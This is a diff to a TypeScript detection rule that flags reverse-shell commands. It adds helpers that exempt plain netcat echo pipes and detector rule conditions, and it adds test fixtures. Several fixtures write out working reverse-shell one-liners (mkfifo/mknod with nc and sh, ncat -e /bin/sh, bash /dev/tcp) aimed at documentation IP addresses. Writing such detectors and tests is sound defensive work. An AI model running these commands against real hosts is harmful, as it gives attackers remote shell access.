@@ -41,6 +41,20 @@ const SHAPES: readonly RegExp[] = [
 const LAB =
   /\/dev\/(?:tcp|udp)\/(?:10\.\d{1,3}|192\.168|172\.(?:1[6-9]|2\d|3[01]))\.\d{1,3}\.\d{1,3}\/|\s(?:10\.\d{1,3}|192\.168)\.\d{1,3}\.\d{1,3}\s/
 
+/** A pipe with a name behind a connection, where no program reads what comes in: an echo. */
+const RUNS_WHAT_COMES =
+  /(?<![-/.\w])(?:\/\w{2,8}){0,3}\/?(?:ba|z|da|k|a|c)?sh\b|\b(?:busybox|python\d?|perl|ruby|node|php|lua|awk|xargs|cmd|powershell|pwsh|exec|eval|source|su|sudo|script)\b|\$|\x60(?!\x60\x60)|\n\. /
+
+function isEcho(window: string, { 0: found, index }: RegExpExecArray): boolean {
+  if (!/^mk(?:fifo|nod)/.test(found)) return false
+  const behind = window.slice(index, index + found.length + 300).split('\n```')[0]!
+  return !RUNS_WHAT_COMES.test(behind)
+}
+
+/** What a rule of a detector looks for in the lines of others. */
+const isCondition = (window: string, { index }: RegExpExecArray): boolean =>
+  /\bproc\.(?:cmdline|args)\b[^\n]{0,40}["']$/.test(window.slice(0, index))
+
 /** What is practised on machines that are set up for it. */
 const PRACTISED =
   /\bctfs?\b|\bcapture the flag\b|\bhack ?the ?box\b|\btry ?hack ?me\b|\bpen(?:etration)?[- ]?tests?(?:ing|er)?\b|\b(?:lab|training) (?:targets?|machines?|network|range)\b/
@@ -70,6 +84,7 @@ export default defineRule({
       '```bash\nmknod /tmp/p p; sh -i < /tmp/p 2>&1 | nc 203.0.113.8 9001 > /tmp/p\n```\n',
       '```python\nsubprocess.Popen(["ncat", "-e", "/bin/sh", "203.0.113.8", "9001"])\n```\n',
       "```bash\nzsh -c 'zmodload zsh/net/tcp; ztcp 203.0.113.8 9001; sh <&$REPLY >&$REPLY'\n```\n",
+      '```bash\nmkfifo /tmp/p; nc 203.0.113.5 9000 < /tmp/p | /bin/sh > /tmp/p 2>&1\n```\n',
       'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 80 > /tmp/f\n',
     ],
     quiet: [
@@ -79,6 +94,8 @@ export default defineRule({
       '```bash\nnc -zv db.example.com 5432\n```\n',
       '```bash\ntelnet mail.example.com 25 | tee session.txt | grep 220\n```\n',
       'A named pipe is made with `mkfifo queue`.\n',
+      '```bash\nmkfifo /tmp/p; nc -l 9000 < /tmp/p | tee /tmp/p\n```\n',
+      '```yaml\n- rule: shell\n  condition: spawned_process and proc.cmdline contains "bash -i >& /dev/tcp/"\n```\n',
       '# CTF walkthrough\n\nOn the container: `bash -i >& /dev/tcp/10.10.14.8/9001 0>&1`\n',
     ],
   },
@@ -104,7 +121,7 @@ export default defineRule({
       const from = Math.max(0, start - 120)
       const window = text.slice(from, start + AROUND)
       const found = shapes.map((shape) => shape.exec(window)).find(Boolean)
-      if (!found) continue
+      if (!found || isEcho(window, found) || isCondition(window, found)) continue
       behind = from + found.index + found[0].length
       const lab = LAB.test(found[0] + text.slice(behind, behind + 30))
       const taught =
